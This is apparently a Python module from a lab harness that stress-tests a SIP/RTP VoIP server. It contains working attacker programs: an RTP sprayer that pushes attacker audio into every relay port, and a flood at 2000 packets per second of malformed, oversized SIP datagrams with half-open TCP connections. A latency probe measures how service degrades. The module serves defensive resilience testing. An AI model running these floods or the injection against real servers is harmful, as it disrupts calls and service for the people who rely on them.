"""Programs of the attacker and of the tester, to be run in their namespace; each prints one JSON line at its end.

``python -m lab.attack spray SERVER LOW HIGH SECONDS``: RTP of the attacker's tone at every relay port in turn.
``python -m lab.attack garbage SERVER LOW HIGH SECONDS``: rubbish at the SIP sockets and the relay ports.
``python -m lab.attack probe SERVER SECONDS``: asks OPTIONS and REGISTER 100 times a second and times the answers.
"""

import json
import random
import select
import socket
import struct
import sys
import time
from collections.abc import Callable, Iterator

from lab import tones
from lab.homes import ATTACKER, TESTER

RATE = 2000
"Packets per second of spray and garbage."
PROBES = 100
"Requests per second of the probe."
_TICK = 0.005
_HALF_OPEN = 100
"TCP connections that stay open on half a message."
_LARGEST = 65_507
"Bytes of the largest UDP payload over IPv4."


def paced(rate: int, seconds: float, send: Callable[[], None]) -> int:
    """Call ``send`` ``rate`` times a second for ``seconds``; how often it was called."""
    start = time.monotonic()
    done = 0
    while (passed := time.monotonic() - start) < seconds:
        while done < passed * rate:
            send()
            done += 1
        time.sleep(_TICK)
    return done


def spray(server: str, low: int, high: int, seconds: float) -> dict[str, object]:
    """Send well-formed RTP with a tone to every port of the range in turn; count what comes back."""
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sock.bind((ATTACKER, 0))
    sock.setblocking(False)
    audio = tones.encode_ulaw(tones.samples(tones.ATTACKER, 0.02))
    back = 0
    packets = _rtp_everywhere(low, high, audio)

    def send() -> None:
        nonlocal back
        packet, port = next(packets)
        try:
            sock.sendto(packet, (server, port))
            while True:
                sock.recv(2048)
                back += 1
        except OSError:
            pass  # nothing there, or an ICMP error

    return {"sent": paced(RATE, seconds, send), "back": back}


def _rtp_everywhere(low: int, high: int, audio: bytes) -> Iterator[tuple[bytes, int]]:
    sequence = 0
    while True:
        sequence += 1
        head = struct.pack(">BBHII", 0x80, 0, sequence & 0xFFFF, sequence * 160 & 0xFFFFFFFF, 0xBAD)
        for port in range(low, high + 1):
            yield head + audio, port


_REQUEST = (
    "{method} sip:{target} SIP/2.0\r\nVia: SIP/2.0/UDP {host}:{port};branch=z9hG4bK{branch};rport\r\n"
    "Max-Forwards: 70\r\nFrom: <sip:probe@sip.test>;tag=p{branch}\r\nTo: <sip:probe@sip.test>\r\n"
    "Call-ID: {call}\r\nCSeq: {cseq} {method}\r\n{contact}Content-Length: 0\r\n\r\n"
)


def rubbish(chance: random.Random) -> bytes:
    """One datagram that no server likes."""
    whole = _REQUEST.format(
        method=chance.choice(("INVITE", "REGISTER", "BYE", "ACK", "CANCEL", "OPTIONS", "PUBLISH", "\x00")),
        target="bob@sip.test",
        host=ATTACKER,
        port=5060,
        branch=chance.getrandbits(32),
        call=chance.getrandbits(32),
        cseq=chance.choice((1, 2**31, -1)),
        contact=chance.choice(("", "Contact: <sip:x@[::1\r\n", "Contact: *\r\n", "Expires: -5\r\n")),
    ).encode()
    kind = chance.randrange(7)
    if kind == 0:
        return chance.randbytes(chance.randrange(1, 1400))
    if kind == 1:
        return whole[: chance.randrange(1, len(whole))]
    if kind == 2:
        broken = bytearray(whole)
        for _ in range(8):
            broken[chance.randrange(len(broken))] = chance.randrange(256)
        return bytes(broken)
    if kind == 3:
        return whole.replace(b"Content-Length: 0", b"Content-Length: 99999999999999999999")
    if kind == 4:
        return b"\x80\x00" + chance.randbytes(chance.randrange(0, 300))
    if kind == 5:
        return whole.replace(b"\r\n", b"\r\n\t") * 3
    return b"SIP/2.0 200 OK\r\n" + whole.partition(b"\r\n")[2]


def oversized() -> tuple[bytes, ...]:
    """Datagrams as large as UDP can carry, most of which begin like something serious."""
    head = b"INVITE sip:bob@sip.test SIP/2.0\r\nVia: SIP/2.0/UDP 192.0.2.1;branch=z9hG4bK1\r\n"
    rest = b"From: <sip:a@sip.test>;tag=1\r\nTo: <sip:bob@sip.test>\r\nCall-ID: 1\r\nCSeq: 1 INVITE\r\n"
    long = (b"," * 70_000, b"x" * 70_000, b"<sip:a@192.0.2.1>," * 4000, b'"\\' * 35_000, b";a=" * 25_000)
    ends = [value[: _LARGEST - len(head + rest) - 20] + b"\r\n\r\n" for value in long]
    lines = b"Via: SIP/2.0/UDP 192.0.2.1;branch=z9hG4bK2\r\n" * 1400
    body = head + rest + b"Content-Length: 60000\r\n\r\n" + b"a=b\r\n" * 10_000
    messages = [head + rest + b"Contact: " + end for end in ends] + [
        head + lines + rest + b"\r\n",
        body,
        b"\0" * 70_000,
    ]
    return tuple(message[:_LARGEST] for message in messages)


def garbage(server: str, low: int, high: int, seconds: float) -> dict[str, object]:
    """Send rubbish to the SIP port and to the relay ports, a fifth of it 64 KiB long; and half messages over TCP."""
    chance = random.Random(5060)
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sock.bind((ATTACKER, 0))
    sock.setblocking(False)
    connections: list[socket.socket] = []
    large = oversized()
    count = errors = 0

    def send() -> None:
        nonlocal count, errors
        count += 1
        port = 5060 if count % 2 else chance.randint(low, high)
        try:
            if count % 20 == 0:
                _half_message(server, chance, connections)
            elif count % 5 == 0:
                sock.sendto(chance.choice(large), (server, port))
            else:
                sock.sendto(rubbish(chance), (server, port))
        except OSError:
            errors += 1  # ICMP, a full buffer or a refused connection: all the same to an attacker

    sent = paced(RATE, seconds, send)
    return {"sent": sent, "errors": errors}


def _half_message(server: str, chance: random.Random, connections: list[socket.socket]) -> None:
    """A new TCP connection with the beginning of something; the oldest ones are dropped."""
    fresh = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    fresh.settimeout(0.2)
    connections.append(fresh)
    if len(connections) > _HALF_OPEN:
        connections.pop(0).close()
    fresh.connect((server, 5060))
    data = rubbish(chance)
    fresh.sendall(data[: max(1, len(data) // 2)])


def probe(server: str, seconds: float) -> dict[str, object]:
    """Time OPTIONS and REGISTER. Answers that never come count as infinitely late."""
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sock.bind((TESTER, 0))
    asked: dict[str, float] = {}
    times: list[float] = []
    statuses: dict[str, int] = {}

    def listen(wait: float) -> None:
        while select.select([sock], [], [], wait)[0]:
            text = sock.recv(65536).decode("latin-1")
            branch = text.partition("branch=z9hG4bK")[2].partition(";")[0].partition("\r")[0]
            if branch in asked:
                times.append(time.perf_counter() - asked.pop(branch))
                status = text[8:11]
                statuses[status] = statuses.get(status, 0) + 1

    start = time.monotonic()
    count = 0
    while time.monotonic() - start < seconds:
        count += 1
        request = _probe_request(count, sock.getsockname()[1])
        asked[str(count)] = time.perf_counter()
        sock.sendto(request, (server, 5060))
        until = start + count / PROBES
        while (left := until - time.monotonic()) > 0:
            listen(left)
    for _ in range(100):  # the host may have paused
        if asked:
            listen(0.05)
    late = sorted(times) + [float("inf")] * len(asked)
    p50, p99 = (late[min(int(len(late) * part), len(late) - 1)] * 1000 for part in (0.5, 0.99))
    return {"asked": count, "unanswered": len(asked), "p50_ms": p50, "p99_ms": p99, "statuses": statuses}


def _probe_request(count: int, port: int) -> bytes:
    register = count % 2 == 0
    return _REQUEST.format(
        method="REGISTER" if register else "OPTIONS",
        target="sip.test",
        host=TESTER,
        port=port,
        branch=count,
        call="probe" if register else f"probe-{count}",
        cseq=count,
        contact=f"Contact: <sip:probe@{TESTER}:{port}>\r\n" if register else "",
    ).encode()


def main(argv: list[str]) -> None:
    """Run one of the three and print what came of it."""
    match argv:
        case ["spray", server, low, high, seconds]:
            result = spray(server, int(low), int(high), float(seconds))
        case ["garbage", server, low, high, seconds]:
            result = garbage(server, int(low), int(high), float(seconds))
        case ["probe", server, seconds]:
            result = probe(server, float(seconds))
        case _:
            sys.exit(__doc__)
    print(json.dumps(result))


if __name__ == "__main__":
    main(sys.argv[1:])
